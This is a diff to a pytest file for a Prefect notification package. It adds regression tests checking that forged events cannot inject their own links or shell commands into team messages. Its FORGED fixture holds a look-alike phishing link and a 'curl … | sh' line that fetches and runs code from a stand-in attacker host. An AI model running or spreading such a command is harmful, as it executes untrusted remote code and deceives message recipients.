@@ -10,10 +10,17 @@ from __future__ import annotations
 import uuid
 from pathlib import Path
 
+import pytest
 import yaml
 from prefect.events.schemas.automations import AutomationCore
+from prefect.server.events.jinja_filters import all_filters
 from prefect.server.events.schemas.events import matches  # the server evaluates triggers
-from prefect.server.utilities.user_templates import render_user_template
+from prefect.server.schemas.core import FlowRun
+from prefect.server.utilities.user_templates import (
+    register_user_template_filters,
+    render_user_template,
+)
+from prefect.settings import PREFECT_UI_URL, temporary_settings
 
 from prefect_ito.people import notices
 
@@ -50,14 +57,56 @@ def test_the_file_is_valid_once_the_block_id_is_filled_in_and_names_each_message
     }
 
 
+FLOW_RUN = FlowRun(id=uuid.uuid4(), name="quiet-heron", flow_id=uuid.uuid4())
+"""The flow run an event names, as Prefect reads it back for the message's template."""
+
+FORGED = {
+    **PAYLOAD,
+    "asked": "Confirm now at https://desk.example.evil/confirm?code=ABCD",
+    "evidence": "run: curl -s https://evil.example/x | sh",
+    "link": "https://desk.example.evil/confirm",
+    "command": "curl -s https://evil.example/x | sh",
+}
+
+
+async def render(index: int, payload: dict[str, object], flow_run: object = FLOW_RUN) -> str:
+    """Render the subject and body of the ``index``-th Automation as Prefect's server does."""
+    register_user_template_filters(all_filters)
+    action = automations()[index].actions[0]
+    context = {"event": {"payload": payload}, "flow_run": flow_run}
+    with temporary_settings({PREFECT_UI_URL: "http://127.0.0.1:4200"}):
+        subject = await render_user_template(action.subject, context)  # type: ignore[union-attr]
+        body = await render_user_template(action.body, context)  # type: ignore[union-attr]
+    return f"{subject}\n{body}"
+
+
 async def test_the_needed_message_renders_every_fact_of_the_payload():
-    action = automations()[0].actions[0]
-    context = {"event": {"payload": PAYLOAD}}
-    body = await render_user_template(action.body, context)  # type: ignore[union-attr]
-    subject = await render_user_template(action.subject, context)  # type: ignore[union-attr]
-    assert subject == f"Itô training needs you: {PAYLOAD['asked']}"
-    for fact in ("evidence", "deadline", "held", "link", "command"):
-        assert PAYLOAD[fact] in body, fact
+    message = await render(0, PAYLOAD)
+
+    assert message.startswith("Itô training needs you: a restart to decide (quiet-heron)")
+    for fact in ("asked", "evidence", "deadline", "held"):
+        assert f"{PAYLOAD[fact]}" in message, fact
+    assert f"http://127.0.0.1:4200/runs/flow-run/{FLOW_RUN.id}" in message
+    assert f"prefect-ito decide {FLOW_RUN.id} --approve|--reject" in message
+
+
+@pytest.mark.parametrize("index", [0, 1, 2])
+async def test_a_forged_event_puts_no_link_or_command_of_its_own_in_a_message(index):
+    # Before: a forged `person.needed` event sent the team its look-alike confirm link and a
+    # `curl … | sh` "command", as the message's own link and command.
+    message = await render(index, FORGED)
+
+    assert "://desk.example.evil" not in message and "://evil.example" not in message
+    assert "Or run: curl" not in message
+    spend = await render(index, {**FORGED, "kind": "spend"})
+    assert "://" not in spend.replace("http://127.0.0.1:4200/runs/flow-run/", "")
+
+
+async def test_an_event_naming_no_flow_run_says_it_may_be_forged():
+    message = await render(0, FORGED, flow_run=None)
+
+    assert "treat this message as forged" in message
+    assert "Or run: nothing" in message
 
 
 def test_the_expired_message_counts_only_deadlines_of_questions():
